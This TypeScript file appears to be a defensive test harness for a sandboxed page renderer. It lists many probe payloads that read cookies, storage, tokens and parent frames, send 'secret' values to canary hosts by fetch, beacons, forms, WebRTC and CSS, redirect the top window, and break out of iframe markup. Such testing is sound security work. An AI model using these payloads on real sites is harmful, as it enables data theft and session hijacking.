/** Where a probe tries to get to: names of the canary, so that what arrives tells of whom. */
export interface Targets {
  http: string;
  https: string;
  ws: string;
  stun: string;
  turn: string;
}

/** A page that tries one way out. `got(value)` says that it read something; `$` are its targets. */
type Probe = string | { html: (targets: Targets) => string };

const html = (text: (targets: Targets) => string): Probe => ({ html: text });
const RTC = (servers: string) =>
  `const p = new RTCPeerConnection({ iceServers: [${servers}] }); p.createDataChannel('x'); p.onicecandidate = () => {}; p.createOffer().then((o) => p.setLocalDescription(o));`;
const STUN = `{ urls: $.stun }`;
const TURN = `{ urls: $.turn, username: 'secret', credential: 'secret' }`;

/** Scripts, unless they are whole pages. */
export const PROBES: Record<string, Probe> = {
  // What belongs to the origins around it.
  'cookies, read': `got(document.cookie)`,
  'cookies, written': `document.cookie = 'a=1'; got(document.cookie)`,
  'cookie store': `cookieStore.getAll().then((all) => got(all.length))`,
  'local storage': `got(localStorage.getItem('secret') ?? localStorage.length)`,
  'session storage': `got(sessionStorage.getItem('secret') ?? sessionStorage.length)`,
  'indexed db': `indexedDB.open('secrets').onsuccess = () => got('a database')`,
  'cache storage': `caches.keys().then(() => got('caches'))`,
  'private file system': `navigator.storage.getDirectory().then(() => got('a folder'))`,
  'broadcast channel': `new BroadcastChannel('secrets').onmessage = (e) => got(e.data)`,
  'shared worker': `const w = new SharedWorker('data:text/javascript,onconnect=()=>{}'); w.onerror = () => {}; w.port.onmessage = () => got('a worker')`,
  'storage access': `document.requestStorageAccess().then(() => got('storage access'))`,
  'parent document': `got(parent.document.title)`,
  'shell document': `got(parent.parent.document.body.innerHTML)`,
  'top document': `got(top.document.title)`,
  'siblings of the frame': `for (const w of [top, parent, parent.parent]) for (let i = 0; i < w.length; i++) if (w[i] !== window && w[i] !== parent) got(w[i].document.title)`,
  'parent address': `got(parent.location.href)`,
  'shell address': `got(parent.parent.location.href)`,
  'top address': `got(top.location.href)`,
  'frame element': `got(window.frameElement)`,
  opener: `got(window.opener)`,
  'globals of the shell': `got(parent.parent.opened ?? parent.parent.token)`,
  referrer: `got(document.referrer)`,
  'base address': `if (/token|render|public/.test(document.baseURI)) got(document.baseURI)`,
  'timing entries': `for (const { name } of performance.getEntries()) if (/token|render/.test(name)) got(name)`,
  'window name': `got(window.name)`,
  'port of the shell': `const { port1, port2 } = new MessageChannel(); port1.onmessage = (e) => got(e.data); parent.parent.postMessage('atrium:port', '*', [port2]);`,
  'port of the shell, asked through the holder': `const { port1, port2 } = new MessageChannel(); port1.onmessage = (e) => { if (e.data.type !== 'ping' && e.data.type !== 'theme') got(e.data) }; parent.postMessage('atrium:port', '*', [port2]);`,
  'token by message': `addEventListener('message', (e) => got(e.data)); for (const w of [parent, parent.parent, top]) for (const m of ['atrium:holder', { type: 'token' }, { type: 'atrium:theme', theme: 'dark' }]) w.postMessage(m, '*');`,
  'another page in the holder': `parent.postMessage({ page: '<script>top.location = "' + $.http + '"<' + '/script>' }, '*')`,
  'prototypes of the bridge': `Object.prototype.token = 'x'; Object.prototype.then = undefined; for (const k of ['postMessage', 'start']) { const real = MessagePort.prototype[k]; MessagePort.prototype[k] = function (...a) { if (/token/.test(JSON.stringify(a))) got(a); return real.apply(this, a) } } atrium.query('__proto__', { __proto__: { a: 1 }, constructor: 'x' }).catch(() => {})`,
  'names of queries': `for (const n of ['__proto__', 'constructor', 'toString', '../token/', 'x\\u0000']) atrium.query(n).then((r) => got(r), () => {})`,
  'passwords of the browser': `navigator.credentials.get({ password: true }).then((c) => c && got(c))`,
  clipboard: `navigator.clipboard.readText().then(got)`,
  position: `navigator.geolocation.getCurrentPosition(got)`,
  camera: `navigator.mediaDevices.getUserMedia({ video: true }).then(got)`,
  notifications: `Notification.requestPermission().then((p) => p === 'granted' && got(p))`,

  // Other windows, and those around it.
  'top, assigned': `top.location = $.http`,
  'top, replaced': `top.location.replace($.https)`,
  'parent, assigned': `parent.location = $.http`,
  'shell, assigned': `parent.parent.location.href = $.http`,
  'link to the top': `const a = document.createElement('a'); a.href = $.http; a.target = '_top'; document.body.append(a); a.click()`,
  'link to the parent': `const a = document.createElement('a'); a.href = $.http; a.target = '_parent'; document.body.append(a); a.click()`,
  'link to a new window': `const a = document.createElement('a'); a.href = $.http; a.target = '_blank'; document.body.append(a); a.click()`,
  'window, opened': `got(window.open($.http))`,
  'window, opened at the top': `got(window.open($.http, '_top'))`,
  'window, opened blank': `const w = open('about:blank'); got(w); w.location = $.http`,
  'base target': html(
    ({ http }) => `<base target="_top" href="${http}/"><a id="a" href="x">x</a><script>a.click()</script>`,
  ),
  'history, back': `history.back(); history.go(-2)`,
  'javascript at the top': `top.location = 'javascript:alert(1)'`,

  // Itself.
  'itself, assigned': `location.href = $.http + '/?secret'`,
  'itself, with TLS': `location.href = $.https + '/?secret'`,
  'itself, replaced': `location.replace($.http)`,
  'itself, by a link': `const a = document.createElement('a'); a.href = $.https; a.onclick = (e) => e.stopPropagation(); document.body.append(a); a.click()`,
  'itself, by meta refresh': html(({ http }) => `<meta http-equiv="refresh" content="0; url=${http}/?secret">`),
  'itself, by meta refresh later': `const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=' + $.https; document.head.append(m)`,
  'itself, by navigation api': `navigation.navigate($.http)`,
  'itself, data address': `location = 'data:text/html,<script>fetch("' + $.http + '")<' + '/script>'`,
  'itself, blob address': `location = URL.createObjectURL(new Blob(['<script>fetch("' + $.http + '")<' + '/script>'], { type: 'text/html' }))`,
  'itself, javascript address': `location = 'javascript:fetch("' + $.http + '")'`,
  'itself, blank, and then': `location = 'about:blank'; setTimeout(() => { new Image().src = $.http }, 50)`,
  'itself, again': `if (!performance.getEntriesByType('navigation').some((n) => n.type === 'reload')) location.reload(); else fetch($.http)`,
  'form, get': html(
    ({ http }) => `<form id="f" action="${http}"><input name="a" value="secret"></form><script>f.submit()</script>`,
  ),
  'form, post': html(
    ({ https }) =>
      `<form id="f" method="post" action="${https}"><input name="a" value="secret"></form><script>f.onsubmit = (e) => e.stopPropagation(); f.requestSubmit()</script>`,
  ),
  'form, to the top': html(
    ({ http }) => `<form id="f" target="_top" action="${http}"></form><script>f.submit()</script>`,
  ),
  'written anew': `document.open(); document.write('<img src="' + $.http + '/w"><script src="' + $.http + '/s"><' + '/script>'); document.close()`,
  'without our head': html(
    ({ http }) =>
      `</head></html><!doctype html><html><head><meta http-equiv="Content-Security-Policy" content="default-src *"><base href="${http}/"></head><body><img src="${http}/i"><img src="relative">`,
  ),
  'out of the frame': html(
    ({ http }) => `"></iframe><img src="${http}/o"></textarea></script></style></title><img src="${http}/p"><!--`,
  ),

  // Calls.
  fetch: `fetch($.http, { mode: 'no-cors' }); fetch($.https, { mode: 'no-cors', method: 'POST', body: 'secret' })`,
  'fetch, later': `fetchLater($.https, { activateAfter: 0 })`,
  'fetch, kept alive': `fetch($.http, { keepalive: true, mode: 'no-cors' }); location.reload()`,
  xhr: `const x = new XMLHttpRequest(); x.open('POST', $.http); x.send('secret')`,
  beacon: `navigator.sendBeacon($.http, 'secret')`,
  websocket: `new WebSocket($.ws)`,
  'websocket stream': `new WebSocketStream($.ws)`,
  'event source': `new EventSource($.http)`,
  'web transport': `new WebTransport($.https)`,
  'the platform, with its own calls': `fetch(new URL('/artifacts/x/data/', parent.origin ?? 'http://localhost'), { method: 'POST' })`,
  'webrtc, stun': RTC(STUN),
  'webrtc, turn': RTC(TURN),
  'webrtc of a nested frame': html(
    ({ stun, turn }) =>
      `<iframe srcdoc="<script>const $ = { stun: '${stun}', turn: '${turn}' };${RTC(`${STUN}, ${TURN}`)}</script>"></iframe>`,
  ),
  'webrtc of a blank frame': `const f = document.createElement('iframe'); document.body.append(f); const RTCPeerConnection = f.contentWindow.RTCPeerConnection; ${RTC(STUN)}`,
  'fetch of a blank frame': `const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.fetch($.http, { mode: 'no-cors' })`,
  'link of a nested frame': html(
    ({ http }) =>
      `<iframe srcdoc="<a id=a target=_top href='${http}'>x</a><script>a.click(); location = '${http}'</script>"></iframe>`,
  ),

  // What documents load.
  image: `new Image().src = $.http; const i = new Image(); i.srcset = $.https + ' 2x'; i.src = 'x'`,
  picture: html(
    ({ http }) =>
      `<picture><source srcset="${http}/a"><img src="${http}/b" loading="eager"></picture><img src="${http}/c" crossorigin>`,
  ),
  'style, background': html(
    ({ http }) =>
      `<style>body { background: url(${http}/bg); cursor: url(${http}/cu), auto; list-style: url("${http}/li"); border-image: url(${http}/bi) }</style><p style="background-image: image-set('${http}/is' 1x)">x</p>`,
  ),
  'style, imported': html(({ http }) => `<style>@import url("${http}/import"); @import "${http}/i2" layer(x);</style>`),
  'style, fonts': html(
    ({ http }) => `<style>@font-face { font-family: f; src: url(${http}/font) } body { font-family: f }</style>text`,
  ),
  'font face': `new FontFace('f', 'url(' + $.http + ')').load()`,
  'style, by selector': html(
    ({ http }) => `<input value="secret"><style>input[value^="s"] { background: url(${http}/s) }</style>`,
  ),
  svg: html(
    ({ http }) =>
      `<svg><image href="${http}/i"/><use href="${http}/u#x"/><filter id="f"><feImage href="${http}/fe"/></filter><rect width="9" height="9" filter="url(#f)" fill="url(${http}/p#p)"/><a href="${http}"><text>x</text></a></svg>`,
  ),
  'svg as an image': html(
    ({ http }) =>
      `<img src="data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg"><image href="${http}/i"/><foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="${http}/j"/></foreignObject></svg>`)}">`,
  ),
  media: html(
    ({ http }) =>
      `<video src="${http}/v" poster="${http}/p" autoplay></video><audio src="${http}/a" autoplay></audio><video><source src="${http}/s"><track default src="${http}/t"></video>`,
  ),
  'object and embed': html(
    ({ http }) =>
      `<object data="${http}/o"></object><embed src="${http}/e"><object data="data:text/html,<script>fetch('${http}')</script>"></object>`,
  ),
  frames: html(
    ({ http }) =>
      `<iframe src="${http}/f"></iframe><iframe src="data:text/html,<script>fetch('${http}')</script>"></iframe><frameset><frame src="${http}/g"></frameset>`,
  ),
  'fenced frame and portal': html(
    ({ https }) => `<fencedframe src="${https}/f"></fencedframe><portal src="${https}/p"></portal>`,
  ),
  script: html(
    ({ http }) =>
      `<script src="${http}/s"></script><script type="module" src="${http}/m"></script><script>import('${http}/i').catch(() => {})</script>`,
  ),
  'import map': html(
    ({ http }) =>
      `<script type="importmap">{"imports": {"x": "${http}/x"}}</script><script type="module">import 'x'</script>`,
  ),
  'link, style': html(
    ({ http }) =>
      `<link rel="stylesheet" href="${http}/s"><link rel="icon" href="${http}/i"><link rel="manifest" href="${http}/m"><link rel="apple-touch-icon" href="${http}/a">`,
  ),
  'link, ahead of time': html(
    ({ http, https }) =>
      `<link rel="prefetch" href="${http}/p"><link rel="preload" as="image" href="${http}/l"><link rel="modulepreload" href="${http}/m"><link rel="prerender" href="${https}/r"><link rel="preload" as="fetch" href="${https}/f">`,
  ),
  'link, connections': html(
    ({ http, https }) =>
      `<link rel="preconnect" href="${http}"><link rel="preconnect" href="${https}" crossorigin><link rel="dns-prefetch" href="${http}">`,
  ),
  'link, connections by script': `for (const rel of ['preconnect', 'dns-prefetch', 'prefetch', 'prerender']) for (const href of [$.http, $.https]) { const l = document.createElement('link'); l.rel = rel; l.href = href; document.head.append(l) }`,
  'links in sight': html(({ https }) => `<a href="${https}/seen">x</a><a href="//x.canary.test">y</a>`),
  'speculation rules': html(
    ({ https }) =>
      `<script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["${https}/s"]}], "prerender": [{"source": "list", "urls": ["${https}/p"]}]}</script>`,
  ),
  'ping of a link': html(({ http }) => `<a id="a" href="#" ping="${http}/ping">x</a><script>a.click()</script>`),
  'attribution source': html(
    ({ https }) =>
      `<img attributionsrc="${https}/a"><a id="a" attributionsrc="${https}/b" href="#">x</a><script>a.click()</script>`,
  ),
  'policy reports': html(
    ({ http }) =>
      `<meta http-equiv="Content-Security-Policy" content="img-src 'none'; report-uri ${http}/r"><img src="x:y">`,
  ),
  worker: `new Worker($.http).onerror = () => {}`,
  'worker of a blob': `new Worker(URL.createObjectURL(new Blob(['fetch("' + $.http + '")']))).onerror = () => {}`,
  'worker of a data address': `new Worker('data:text/javascript,fetch("' + $.http + '")').onerror = () => {}`,
  'service worker': `navigator.serviceWorker.register('/sw.js').then(() => got('a service worker'))`,
  worklet: `CSS.paintWorklet.addModule($.http); new AudioContext().audioWorklet.addModule($.http)`,
  'shared storage': `sharedStorage.worklet.addModule($.https)`,
  print: `print(); alert(1); got(confirm('x') || null)`,
  payment: `new PaymentRequest([{ supportedMethods: $.https }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).show()`,
  'evaluated text': `new Function('fetch("' + $.http + '")')(); eval('fetch("' + $.http + '")')`,
};

/** The page of a probe, which says on itself that it went to its end. */
export function probePage(name: string, probe: Probe, targets: Targets): string {
  const prelude = `<script>window.read = []; const $ = ${JSON.stringify(targets)}; const got = (value) => { if (value !== null && value !== undefined && value !== '' && value !== 0) read.push(${JSON.stringify(name)} + ': ' + String(JSON.stringify(value)).slice(0, 200)) }; addEventListener('unhandledrejection', (e) => e.preventDefault());</script>`;
  if (typeof probe !== 'string') return `${prelude}${probe.html(targets)}`;
  return `<!doctype html><html><head><title>Probe</title></head><body>${prelude}<script>try { ${probe} } catch { } document.body.dataset.ended = 'yes';</script></body></html>`;
}
